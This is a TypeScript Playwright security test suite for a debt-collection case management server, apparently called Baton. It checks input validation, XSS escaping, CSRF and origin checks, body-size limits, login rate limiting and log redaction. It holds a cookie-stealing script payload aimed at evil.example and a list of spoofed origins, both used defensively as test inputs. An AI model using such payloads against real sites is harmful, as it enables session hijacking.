import { randomUUID } from "node:crypto";
import { expect, test } from "@playwright/test";
import { io } from "socket.io-client";
import type { Client } from "#lib/run/trial/client.ts";
import { Desk, PASSWORD, PORTFOLIO } from "#lib/run/trial/desk.ts";
import { Screen } from "#lib/run/trial/screen.ts";
import { type Server, startServer } from "#lib/run/trial/server.ts";
import { signIn, tryPassword } from "#lib/run/trial/sign-in.ts";
import { showsWhatIsFetched, verifies, wholeRecord } from "#lib/run/trial/whole.ts";
import { hostileBodies, said } from "./kit/hostile-bodies.ts";

test.describe.configure({ mode: "serial" });
test.setTimeout(60_000);

const GENEROUS = { perSecond: 100_000, burst: 100_000 };
const SCRIPT = `"><script>fetch('//evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>`;
const NAMES = ["שרה כהן", "محمد العربي", "👩‍👩‍👧‍👦 Family", "Zoë ‮reversed‬", "𝒥𝑜𝒽𝓃", "Ａｄａ", SCRIPT];
/** Whatever personal was said here; none of it may stand in the log. */
const PERSONAL = ["Persephone Private", "07700 900456", "persephone@private.example", "Her sister is ill", SCRIPT];

let server: Server;
let desk: Desk;
let agent: Client;

test.beforeAll(async () => {
  server = await startServer({ limits: { person: GENEROUS, key: GENEROUS } });
  desk = await Desk.open(server);
  agent = await desk.employ({ name: "Agent", role: "agent", teams: ["early-arrears"] });
});
test.afterAll(() => server?.remove());

test("what cannot be read or is not true is answered clearly and writes nothing", async () => {
  const ref = await desk.openCase();
  const wrong: string[] = [];
  for (const [what, body, status, code, headers] of hostileBodies()) {
    const answer = await agent.send("POST", `/cases/${ref}/commands`, body, headers);
    const { type, status: inside, traceId } = answer.body ?? {};
    const media = answer.headers.get("content-type");
    const got = [answer.status, answer.body?.code, media, type, inside, /^[0-9a-f-]{36}$/.test(traceId)];
    const due = [status, code, "application/problem+json", `/problems/${code}`, status, true];
    if (JSON.stringify(got) !== JSON.stringify(due)) wrong.push(`${what}: ${answer.status} ${answer.text}`);
  }
  expect(wrong).toEqual([]);
  expect((await desk.key.read(`/cases/${ref}`)).version).toBe(1);
});

test("a case is opened whole or not at all", async () => {
  const before = (await desk.key.read("/cases?limit=200")).items.length;
  const right = {
    commandId: randomUUID(),
    portfolio: PORTFOLIO,
    customer: { name: "Ada" },
    debts: [{ reference: "D", balanceMinor: 1 }],
  };
  for (const [what, wrong] of Object.entries({
    "a zone that is none": { customer: { name: "Ada", timeZone: "Mars/Olympus" } },
    "a birthday that is none": { customer: { name: "Ada", birthDate: "1990-02-31" } },
    "two lines of name": { customer: { name: "Ada\nLovelace" } },
    "no portfolio there is": { portfolio: "atlantis" },
    "a second debt that is wrong": { debts: [...right.debts, { reference: "E", balanceMinor: -1 }] },
    "a debt in dollars": { debts: [...right.debts, { reference: "E", balanceMinor: 1, currency: "USD" }] },
  })) {
    const { status, text } = await desk.key.post("/cases", { ...right, ...wrong });
    expect(status, `${what}: ${text}`).toBe(422);
  }
  expect((await desk.key.read("/cases?limit=200")).items).toHaveLength(before);
});

test("long notes, every script and stored markup come back as the text that they are, on the wire and on the screen", async () => {
  for (const name of NAMES) {
    const ref = await desk.openCase({ name });
    expect((await agent.read(`/cases/${ref}`)).case.customer.name).toBe(name);
  }
  const ref = await desk.openCase({ name: SCRIPT });
  const screen = await Screen.open(agent, [ref]);
  const long = `${"ẞ😀".repeat(3_300)}\n\t${SCRIPT}`;
  expect(long.length).toBeGreaterThan(9_900);
  for (const text of [long, SCRIPT]) {
    const { events } = await agent.does(ref, "add-note", { text });
    expect(events[0]?.data).toEqual({ text });
  }
  for (const [type, data] of everyText(SCRIPT)) await agent.does(ref, type, data);
  const fetched = await agent.get(`/cases/${ref}`);
  expect(fetched.headers.get("content-type")).toBe("application/json");
  expect(fetched.headers.get("x-content-type-options")).toBe("nosniff");
  expect(fetched.body.case).toMatchObject({ nextAction: { what: SCRIPT }, handover: { note: SCRIPT, ask: SCRIPT } });
  const page = await fetch(`${server.url}/cases/${ref}`, { headers: agent.headers });
  expect(page.status).toBe(200);
  expect(await page.text()).not.toContain("<script>fetch('//evil");
  await showsWhatIsFetched(screen);
  await wholeRecord(desk.key, ref);
  screen.close();
});

function everyText(text: string): [string, object][] {
  return [
    ["set-next-action", { what: text, dueAt: "2099-01-01T00:00:00.000Z" }],
    ["record-contact", { channel: "call", direction: "outbound", disposition: "no-answer", note: text }],
    ["record-payment", { amountMinor: 100, currency: "GBP", method: "cash", reference: text }],
    ["open-dispute", { reason: "not-mine", note: text }],
    ["open-complaint", { category: "delay", text }],
    ["record-disclosure", { driver: "health", adjustments: ["large-print"], note: text }],
    ["place-hold", { kind: "other", reason: text }],
    ["change-contact-point", { kind: "address", value: text }],
    ["offer-handover", { toTeam: "late-stage", reason: "skill", note: text, promised: text, ask: text }],
  ];
}

test("an oversized body is answered 413 while it is still being sent, announced or not", async () => {
  const ref = await desk.openCase();
  const sent = { ...agent.headers, "content-type": "application/json" };
  const url = `${server.url}/api/v1/cases/${ref}/commands`;
  const announced = await fetch(url, { method: "POST", headers: sent, body: "x".repeat(5_000_000) });
  expect([announced.status, (await announced.json()).code]).toEqual([413, "too-large"]);
  const chunk = new TextEncoder().encode("x".repeat(16_384));
  let left = 64;
  const body = new ReadableStream({
    pull: (to) => (left-- > 0 ? to.enqueue(chunk) : to.close()),
  });
  const streamed = await fetch(url, { method: "POST", headers: sent, body, duplex: "half" } as RequestInit);
  expect([streamed.status, (await streamed.json()).code]).toEqual([413, "too-large"]);
});

test("sockets and signed-in changes from other sites are refused", async () => {
  const ref = await desk.openCase();
  const { port } = new URL(server.url);
  const foreign = [
    "https://evil.example",
    "null",
    `http://evil.127.0.0.1:${port}`,
    `http://127.0.0.1.evil.example:${port}`,
    `http://localhost.evil.example:${port}`,
    `http://127.0.0.1:${Number(port) + 1}`,
    `https://127.0.0.1:${port}`,
    `http://xlocalhost:${port}`,
  ];
  const { cookie = "" } = agent.headers;
  for (const origin of [...foreign, undefined]) {
    const from: Record<string, string> = origin === undefined ? {} : { origin };
    expect(await knock({ cookie, ...from }), `socket from ${origin}`).toBe("unauthorized");
    for (const type of [
      "application/json",
      "text/plain",
      "application/x-www-form-urlencoded",
      "multipart/form-data; boundary=x",
    ]) {
      const answer = await fetch(`${server.url}/api/v1/cases/${ref}/commands`, {
        method: "POST",
        headers: { cookie, ...from, "content-type": type },
        body: JSON.stringify(said("add-note", { text: "Forged" })),
      });
      expect(answer.status, `${type} from ${origin}`).toBe(403);
    }
  }
  for (const origin of foreign) expect(await knock({ origin }, server.key), `key from ${origin}`).toBe("unauthorized");
  expect(await knock({ cookie, origin: server.url })).toBe("welcome");
  expect(await knock({}, server.key)).toBe("welcome");
  expect(await knock({}, "baton_no-such-key")).toBe("unauthorized");
  for (const type of ["text/plain", "application/x-www-form-urlencoded"]) {
    const body = JSON.stringify(said("add-note", { text: "Forged" }));
    expect((await agent.send("POST", `/cases/${ref}/commands`, body, { "content-type": type })).status).toBe(415);
  }
  const forged = await fetch(`${server.url}/api/auth/signout`, {
    method: "POST",
    headers: { cookie, origin: "https://evil.example" },
  });
  expect(forged.status).toBe(403);
  expect((await agent.read(`/cases/${ref}`)).version).toBe(1);
});

/** Tries to open a socket; how it was received. */
function knock(extraHeaders: Record<string, string>, token?: string): Promise<string> {
  const options = { path: "/live", transports: ["websocket"], forceNew: true, reconnection: false };
  const socket = io(server.url, { ...options, extraHeaders, ...(token && { auth: { token } }) });
  return new Promise((resolve) => {
    const end = (how: string) => {
      socket.disconnect();
      resolve(how);
    };
    socket.once("connect", () => end("welcome"));
    socket.once("connect_error", (error: Error & { data?: { code: string } }) =>
      end(error.data?.code ?? error.message),
    );
  });
}

test("guessing a password is soon answered 429, for that account alone", async () => {
  const { email } = await desk.addPerson({ name: "Target", role: "agent", teams: ["early-arrears"] });
  const other = await desk.addPerson({ name: "Other", role: "agent", teams: ["early-arrears"] });
  const guesses = await Promise.all(
    Array.from({ length: 30 }, (_, at) => tryPassword(server.url, email, `guess ${at}`)),
  );
  const counts = (status: number) => guesses.filter((answer) => answer.status === status).length;
  expect([counts(401), counts(429)]).toEqual([5, 25]);
  const right = await tryPassword(server.url, email, PASSWORD);
  expect(right.status).toBe(429);
  expect(Number(right.headers.get("retry-after"))).toBeGreaterThan(60);
  expect(await right.json()).toMatchObject({ code: "too-many", status: 429 });
  expect(await signIn(server.url, other.email, PASSWORD)).toHaveProperty("cookie");
});

test("nothing personal that was said here stands in the log, and nothing failed inside", async () => {
  const [name, phone, email, text] = PERSONAL;
  const ref = await desk.openCase({ name, phone, email });
  await agent.does(ref, "add-note", { text });
  await agent.post("/cases/search", { text: name });
  await agent.post(`/cases/${ref}/reveals`, { field: "phone", purpose: text });
  await agent.get(`/cases?q=${encodeURIComponent(String(name))}`);
  await agent.get(`/cases/${encodeURIComponent(String(text))}`);
  await agent.command(ref, "add-note", { text, [String(name)]: text });
  await agent.command(ref, String(text), {});
  await verifies(server);
  const log = server.said();
  expect(log).toContain("Baton is ready");
  for (const personal of [...PERSONAL, ...NAMES, PASSWORD, "Customer 1", server.key])
    expect(log).not.toContain(personal);
  expect(log).not.toMatch(/"level":[56]0|Unhandled|a request failed/);
});
